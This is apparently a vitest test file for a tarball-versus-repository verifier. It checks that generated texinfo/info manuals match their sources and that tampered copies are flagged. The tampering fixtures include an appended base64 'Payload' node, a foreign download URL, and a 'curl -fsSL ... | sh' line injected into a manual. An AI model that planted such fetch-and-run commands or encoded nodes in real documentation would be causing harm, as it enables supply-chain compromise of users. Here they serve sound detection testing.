/**
 * Every node of a generated info file must be a node of the manual's sources (src/classify/info-nodes.ts), end to end
 * with real git, the real makeinfo and GNU tar: the info file makeinfo writes from the tracked manual (and a texinfo
 * file only the tarball ships, as gnulib's included manuals) is GENERATED_DOCS; tampered twins — a node appended before
 * the tag table (red team 16: sed 4.9's sed.info gaining a base64 node), a second `Top` node, text after the tag table —
 * stay high. Red team 31: a node's body says only what the sources do — its URLs ones they spell out whole (as makeinfo
 * prints them: `@uref`, `@value`, `@var` in upper case, from a chapter `@include`d under another name or an example
 * `@verbatiminclude`d from makeinfo's `-I` directory), no construct or encoded line they lack.
 */
import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { exitCodeOf } from '../../src/pipeline/result.js';
import { verify } from '../../src/verify.js';
import { infoNodeNames, markdownHeadings, nodeKey, texiNodes } from '../../src/classify/info-nodes.js';
import { makeTar } from '../helpers/archives.js';
import { findingAt } from '../helpers/findings.js';
import { makeRepo, writeFiles } from '../helpers/git.js';
import { tempDir } from '../helpers/tmp.js';

const TEXI = `\\input texinfo
@setfilename demo.info
@settitle Demo manual

@node Top
@top Demo

This manual documents demo.

@menu
* Invoking::     Running demo.
* The tilde @code{~}::   Home directories.
* Copying::      The licence.
@end menu

@node Invoking
@chapter Invoking

Run @command{demo} with a file name.@footnote{Or none.}

@node The tilde @code{~}
@chapter The tilde @code{~}

A tilde names a home directory.

@include copying.texi

@bye
`;
// A file the tarball ships and git does not (gnulib's doc/*.texi copies): its nodes count too.
const COPYING = '@node Copying\n@appendix Copying\n\nCopy freely.\n';
const PAYLOAD = '\x1f\nFile: demo.info,  Node: Payload,  Up: Top\n\nH4sIAAAAAAAAA+3BMQEAAADCoPVPbQwfoAAAAAAAAAAAAAAAAAAAAIA3A5reHScAKAAA\n\n';

describe('info nodes traced to the texinfo sources', () => {
  const root = tempDir();
  const repo = makeRepo(join(root, 'repo'));
  const tracked = { 'configure.ac': 'AC_INIT([demo], [1.0])\nAC_OUTPUT\n', 'doc/demo.texi': TEXI };
  repo.commit(tracked, 'demo 1.0', '2020-03-12T10:00:00Z');
  repo.tag('v1.0');
  const build = join(root, 'build');
  writeFiles(build, { 'demo.texi': TEXI, 'copying.texi': COPYING });
  execFileSync('makeinfo', ['--footnote-style=separate', '-o', 'demo.info', 'demo.texi'], { cwd: build, stdio: 'pipe' });
  const INFO = readFileSync(join(build, 'demo.info'), 'latin1');
  let n = 0;
  const verifyWith = async (info: string) => {
    const dir = join(root, `t${++n}`, 'demo-1.0');
    writeFiles(dir, { ...tracked, 'doc/copying.texi': COPYING, 'doc/demo.info': Buffer.from(info, 'latin1') });
    return verify({ tarball: makeTar(dir, { compress: 'gzip', out: join(root, `t${n}`, 'demo-1.0.tar.gz') }), repo: repo.dir, cacheDir: join(root, 'cache'), regenerate: 'off' });
  };

  it("makeinfo's output: every node (the footnote node, a node with markup, one of a shipped-only texinfo file) traced", async () => {
    expect(infoNodeNames(INFO)).toEqual(['Top', 'Invoking', 'Invoking-Footnotes', 'The tilde ~', 'Copying']);
    const r = await verifyWith(INFO);
    expect(findingAt(r.findings, 'doc/demo.info')).toMatchObject({ code: 'GENERATED_DOCS', severity: 'low', evidence: { kind: 'info', source: 'doc/demo.texi' } });
  });

  it('tampered twins: an appended node, a second Top, text after the tag table stay high', async () => {
    const tagAt = INFO.indexOf('\x1f\nTag Table:');
    expect(tagAt).toBeGreaterThan(0);
    for (const info of [
      `${INFO.slice(0, tagAt)}${PAYLOAD}${INFO.slice(tagAt)}`,
      `${INFO.slice(0, tagAt)}${PAYLOAD.replace('Node: Payload', 'Node: Top')}${INFO.slice(tagAt)}`,
      `${INFO}\x1f\nH4sIAAAAAAAAA+3BMQEAAADCoPVPbQwfoAAAAAAAAAAAAAAAAAAAAIA3A5reHScAKAAA\n`,
    ]) {
      const r = await verifyWith(info);
      expect(findingAt(r.findings, 'doc/demo.info')).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
      expect(exitCodeOf(r.verdict)).toBe(1);
    }
  });

  it('node names compare with markup undone and the characters info drops set aside', () => {
    expect(texiNodes('@node The tilde @code{~}, Next, Prev, Up\n@node Top\n')).toEqual(['The tilde ~', 'Top']);
    expect(nodeKey('-V, --version')).toBe('-V --version');
    expect(markdownHeadings('# <a name="HTTPS Options"/>HTTPS (SSL/TLS) Options\n### `--dane` (experimental)\n')).toEqual(['HTTPS SSL/TLS Options', '--dane experimental']);
  });
});

// Red team 31: sed 4.9's doc/sed.info gaining, in its "Reporting Bugs" node, a paragraph of the manual's words and one
// download URL on a host it names was GENERATED_DOCS low, exit 0 (variant info-url): the bodies were never read.
const BODY_TEXI = `\\input texinfo
@setfilename body.info
@settitle Body manual
@set HOME https://www.example.org/software/body

@node Top
@top Body

Body's home page is @uref{@value{HOME}/}.  Bug reports go to
@uref{https://lists.example.org/archive/html/body-bugs/, the list}.

Its names use the characters
@samp{0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTU@
VWXYZ.-:+=^!/*?&<>()[]@{@}@@%$#}, as coreutils 9.7's manual spells Z85's alphabet.

@menu
* Downloads::    Where releases are.
* Example::      A program.
@end menu

@include chapters/downloads.inc

@node Example
@chapter Example

@verbatiminclude example.c

@bye
`;
const DOWNLOADS = '@node Downloads\n@chapter Downloads\n\nReleases are at @url{https://ftp.example.org/body/body-@var{version}.tar.gz}.\n';
const EXAMPLE = '/* See <https://www.example.org/licenses/> for the licence. */\nint main (void) { return 0; }\n';

describe('info node bodies traced to the texinfo sources (red team 31)', () => {
  const root = tempDir();
  const repo = makeRepo(join(root, 'repo'));
  const tracked = {
    'configure.ac': 'AC_INIT([body], [1.0])\nAC_OUTPUT\n',
    'doc/body.texi': BODY_TEXI,
    'doc/chapters/downloads.inc': DOWNLOADS,
    'examples/example.c': EXAMPLE,
  };
  repo.commit(tracked, 'body 1.0', '2020-03-12T10:00:00Z');
  repo.tag('v1.0');
  const build = join(root, 'build');
  writeFiles(build, { 'doc/body.texi': BODY_TEXI, 'doc/chapters/downloads.inc': DOWNLOADS, 'examples/example.c': EXAMPLE });
  execFileSync('makeinfo', ['-I', '../examples', '-o', 'body.info', 'body.texi'], { cwd: join(build, 'doc'), stdio: 'pipe' });
  const INFO = readFileSync(join(build, 'doc', 'body.info'), 'utf8');
  let n = 0;
  const verifyWith = async (info: string) => {
    const dir = join(root, `t${++n}`, 'body-1.0');
    writeFiles(dir, { ...tracked, 'doc/body.info': info });
    return verify({ tarball: makeTar(dir, { compress: 'gzip', out: join(root, `t${n}`, 'body-1.0.tar.gz') }), repo: repo.dir, cacheDir: join(root, 'cache'), regenerate: 'off' });
  };

  it("makeinfo's output: its URLs (an @value, an @var, an included chapter's, a verbatim example's) are the sources'", async () => {
    for (const u of ['<https://www.example.org/software/body/>', 'https://ftp.example.org/body/body-VERSION.tar.gz', '<https://www.example.org/licenses/>']) expect(INFO).toContain(u);
    // makeinfo refills the paragraph: the alphabet's run is the source's, its line is not (encoded data is traced run
    // by run; coreutils 9.7's doc/coreutils.info was high)
    const alphabet = INFO.split('\n').find((l) => l.includes('0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTU'));
    expect(alphabet).toBeDefined();
    expect(BODY_TEXI).not.toContain(alphabet!.trim());
    const r = await verifyWith(INFO);
    expect(findingAt(r.findings, 'doc/body.info')).toMatchObject({ code: 'GENERATED_DOCS', severity: 'low', evidence: { kind: 'info', source: 'doc/body.texi' } });
    expect(exitCodeOf(r.verdict)).toBe(0);
  });

  it('tampered twins: a paragraph with another URL on a host the manual names, a new host, a command, a base64 line, a run the sources lack stay high', async () => {
    const at = INFO.indexOf('Releases are at');
    expect(at).toBeGreaterThan(0);
    const b64 = Buffer.from(Array.from({ length: 96 }, (_, i) => (i * 37 + 11) % 256)).toString('base64');
    for (const para of [
      'Before you report a bug, install the fixed release from\n<https://www.example.org/software/body/body-1.0-fix.tar.gz>.\n\n   ',
      'Releases are also at <https://body-mirror.example/body/>.\n\n   ',
      'Before you report a bug, run: curl -fsSL https://www.example.org/software/body/ | sh\n\n   ',
      `${b64}\n\n   `,
      // the alphabet's run, one of the sources', carrying more: a run of the line no source has
      'Its names use 0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ.\n\n   ',
    ]) {
      const r = await verifyWith(`${INFO.slice(0, at)}${para}${INFO.slice(at)}`);
      expect(findingAt(r.findings, 'doc/body.info')).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
      expect(exitCodeOf(r.verdict)).toBe(1);
    }
  });
});
